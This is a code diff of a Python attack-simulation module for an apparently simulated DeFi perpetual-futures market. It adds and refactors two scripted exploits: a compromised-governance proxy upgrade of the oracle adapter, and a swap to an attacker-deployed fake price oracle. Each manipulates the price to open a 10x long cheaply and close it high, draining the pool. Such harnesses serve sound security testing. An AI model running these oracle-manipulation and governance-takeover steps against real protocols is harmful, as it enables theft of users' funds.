@@ -242,27 +242,49 @@ def admin_key_drain(world: World) -> AttackResult:
                    takeover_tx=takeover["transactionHash"].to_0x_hex())
 
 
-def malicious_oracle_upgrade(world: World) -> AttackResult:
-    """Compromised governance swaps the market's oracle for the attacker's price source; the attacker opens a
-    long at a fake low price and closes at a fake high one."""
+def malicious_upgrade(world: World) -> AttackResult:
+    """Compromised governance upgrades the oracle adapter's proxy to the attacker's implementation (an ERC-1967
+    `Upgraded` event); the attacker then opens a long at a fake low price and closes at a fake high one."""
+    attacker = world.accounts.attacker
+    adapter = world.contract("OracleAdapter")
+    price = adapter.functions.price().call()
+    impl = deploy(world.w3, attacker, artifacts.project("MaliciousAdapterImplementation"), attacker.address)
+    margin = _buy_usd(world, "attacker", 20 * E18) // 2
+    usd_before, pool_before = _usd_of(world, attacker.address), _pool(world)
+    upgrade = world.governance_call("OracleAdapter", "upgradeToAndCall", impl.address, b"")
+    fake = world.w3.eth.contract(address=adapter.address, abi=impl.abi)
+    return _trade_on_fake_price(world, "malicious-upgrade", fake, price, margin, usd_before, pool_before,
+                                impl.address, upgrade_tx=upgrade["transactionHash"].to_0x_hex())
+
+
+def malicious_oracle_swap(world: World) -> AttackResult:
+    """Compromised governance points the market at the attacker's price source (`setOracle`); the attacker opens
+    a long at a fake low price and closes at a fake high one."""
     attacker = world.accounts.attacker
     price = world.contract("OracleAdapter").functions.price().call()
     fake = deploy(world.w3, attacker, artifacts.project("MaliciousPriceOracle"), price)
     margin = _buy_usd(world, "attacker", 20 * E18) // 2
     usd_before, pool_before = _usd_of(world, attacker.address), _pool(world)
+    swap_tx = world.governance_call("PerpMarket", "setOracle", fake.address)
+    return _trade_on_fake_price(world, "oracle-swap", fake, price, margin, usd_before, pool_before, fake.address,
+                                oracle_swap_tx=swap_tx["transactionHash"].to_0x_hex())
+
+
+def _trade_on_fake_price(world: World, name: str, fake: Any, price: int, margin: int, usd_before: int,
+                         pool_before: int, contract: str, **details: Any) -> AttackResult:
+    """With a price the attacker controls: open a 10x long at a tenth of `price`, close at ten times it."""
+    attacker = world.accounts.attacker
     vault, market = world.contract("CollateralVault"), world.contract("PerpMarket")
-    upgrade = world.governance_call("PerpMarket", "setOracle", fake.address)
-    world.send(fake.functions.setPrice(price // 10), attacker)
+    world.send(fake.functions.setFakePrice(price // 10), attacker)
     world.send(world.contract("dUSD").functions.approve(vault.address, margin), attacker)
     _try_send(world, vault.functions.deposit(margin), "attacker")
     open_tx = _try_send(world, market.functions.openPosition(margin * 10 * E18 // (price // 10) * 99 // 100, margin), "attacker")
-    world.send(fake.functions.setPrice(price * 10), attacker)
+    world.send(fake.functions.setFakePrice(price * 10), attacker)
     close_tx = _try_send(world, market.functions.closePosition(), "attacker")
     free = vault.functions.balanceOf(attacker.address).call()
     if free:
         _try_send(world, vault.functions.withdraw(free), "attacker")
-    return _result(world, "malicious-upgrade", close_tx, fake.address, usd_before, pool_before,
-                   upgrade_tx=upgrade["transactionHash"].to_0x_hex(), open_tx=open_tx)
+    return _result(world, name, close_tx, contract, usd_before, pool_before, open_tx=open_tx, **details)
 
 
 def twap_multiblock_attack(world: World, dump_weth: int = 1_500 * E18) -> AttackResult:
